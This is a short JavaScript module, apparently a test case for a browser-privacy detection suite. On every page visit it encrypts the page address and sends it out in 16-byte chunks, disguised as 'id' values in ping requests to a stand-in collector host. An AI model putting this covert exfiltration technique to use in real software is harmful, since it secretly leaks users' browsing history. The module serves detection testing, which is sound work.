import { onVisit, piecesOf, reportHonestly, seal, tryTo } from '../../lib/proving.js';

/** Encrypts the address of each page and sends 16 bytes of it in each of several requests, as an id. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-portions-requests');
  onVisit(browser, async ({ url }) => {
    for (const bytes of piecesOf(seal(browser, url), 16))
      await tryTo(browser, {
        url: `https://portions-requests.collector.example/v1?event=ping&id=${browser.codec.hex.encode(bytes)}`,
        pool: 'portions',
      });
  });
}
